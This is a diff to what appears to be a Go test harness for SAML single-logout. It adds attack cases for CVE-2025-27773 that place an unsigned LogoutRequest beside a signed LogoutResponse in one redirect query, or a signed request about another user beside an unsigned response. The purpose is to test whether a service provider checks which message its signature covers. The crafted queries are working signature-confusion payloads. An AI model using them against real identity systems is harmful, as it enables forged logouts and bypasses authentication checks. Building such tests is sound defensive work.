@@ -43,18 +43,22 @@ var logoutQueries = []LogoutAttack{
 	{
 		Row: "BND-09", Name: "beside-response", Rule: "one-message", Binding: idp.BindingRedirect, Sources: []string{"CVE-2025-27773"},
 		Summary: "is not signed, and stands in the query before a signed response",
-		query: func(e idp.Envelope, to string) (string, error) {
-			request, response, err := unsignedBesideSigned(e, to)
-			return to + asking(to) + request + "&" + response, err
-		},
+		query:   together(unsignedRequestSignedResponse, func(request, response string) string { return request + "&" + response }),
 	},
 	{
 		Row: "BND-09", Name: "behind-response", Rule: "one-message", Binding: idp.BindingRedirect, Sources: []string{"CVE-2025-27773"},
 		Summary: "is not signed, and stands in the query behind a signed response",
-		query: func(e idp.Envelope, to string) (string, error) {
-			request, response, err := unsignedBesideSigned(e, to)
-			return to + asking(to) + response + "&" + request, err
-		},
+		query:   together(unsignedRequestSignedResponse, func(request, response string) string { return response + "&" + request }),
+	},
+	{
+		Row: "BND-09", Name: "signed-beside-response", Rule: "one-message", Binding: idp.BindingRedirect, Sources: []string{"CVE-2025-27773"},
+		Summary: "is a signed one about somebody else, and stands in the query before a response that is not signed",
+		query:   together(signedRequestUnsignedResponse, func(request, response string) string { return request + "&" + response }),
+	},
+	{
+		Row: "BND-09", Name: "signed-behind-response", Rule: "one-message", Binding: idp.BindingRedirect, Sources: []string{"CVE-2025-27773"},
+		Summary: "is a signed one about somebody else, and stands in the query behind a response that is not signed",
+		query:   together(signedRequestUnsignedResponse, func(request, response string) string { return response + "&" + request }),
 	},
 	{
 		Row: "BND-08", Name: "reencoded", Rule: "octets-kept", Binding: idp.BindingRedirect,
@@ -83,14 +87,40 @@ func changedParameter(name, with string) func(LogoutDonor, *simulator.Carriage) 
 	}
 }
 
-// unsignedBesideSigned are the parameters of the request without a signature, and those
-// of an honest LogoutResponse of the same identity provider with one.
-func unsignedBesideSigned(e idp.Envelope, to string) (request, response string, err error) {
+// together puts two messages into one query, in the order that lay has them in.
+func together(both func(request, response *idp.Envelope), lay func(request, response string) string) func(idp.Envelope, string) (string, error) {
+	return func(request idp.Envelope, to string) (string, error) {
+		response := answerLike(request)
+		both(&request, &response)
+		asked, err := parametersOf(request, to)
+		if err != nil {
+			return "", err
+		}
+		answered, err := parametersOf(response, to)
+		return to + asking(to) + lay(asked, answered), err
+	}
+}
+
+func unsignedRequestSignedResponse(request, _ *idp.Envelope) { request.Signer.Key = nil }
+
+// signedRequestUnsignedResponse is what whoever has a session of their own can put
+// together: Okta signed the request, and it does not name the victim.
+func signedRequestUnsignedResponse(request, response *idp.Envelope) {
+	response.Signer.Key = nil
+	name := request.Root.SelectElement("NameID")
+	name.SetText("nobody." + name.Text())
+	for _, index := range request.Root.SelectElements("SessionIndex") {
+		index.SetText("id-of-no-session")
+	}
+}
+
+// answerLike is an honest LogoutResponse of the identity provider that makes the request.
+func answerLike(request idp.Envelope) idp.Envelope {
 	answer := etree.NewDocument()
-	answer.SetRoot(e.Root.Copy())
+	answer.SetRoot(request.Root.Copy())
 	root := answer.Root()
 	root.Tag = "LogoutResponse"
-	root.CreateAttr("ID", "id-of-an-answer-to-"+e.ID())
+	root.CreateAttr("ID", "id-of-an-answer-to-"+request.ID())
 	root.CreateAttr("InResponseTo", "id-of-an-older-request")
 	root.RemoveAttr("NotOnOrAfter")
 	for _, child := range root.ChildElements() {
@@ -99,18 +129,16 @@ func unsignedBesideSigned(e idp.Envelope, to string) (request, response string, 
 		}
 	}
 	root.CreateElement("saml2p:Status").CreateElement("saml2p:StatusCode").CreateAttr("Value", idp.StatusSuccess)
-
-	signed := idp.Envelope{Document: answer, Root: root, Parameter: "SAMLResponse", Signer: e.Signer}
-	if response, err = parametersOf(signed, to, "rollcall"); err != nil {
-		return "", "", err
-	}
-	e.Signer.Key = nil
-	request, err = parametersOf(e, to, "")
-	return request, response, err
+	return idp.Envelope{Document: answer, Root: root, Parameter: "SAMLResponse", Signer: request.Signer}
 }
 
-// parametersOf is what a message adds to the query of the address.
-func parametersOf(e idp.Envelope, to, relayState string) (string, error) {
+// parametersOf is what a message adds to the query of the address. The one of two that is
+// signed brings the RelayState.
+func parametersOf(e idp.Envelope, to string) (string, error) {
+	relayState := ""
+	if e.Signer.Key != nil {
+		relayState = "rollcall"
+	}
 	address, err := e.Redirect(to, relayState)
 	if err != nil {
 		return "", err
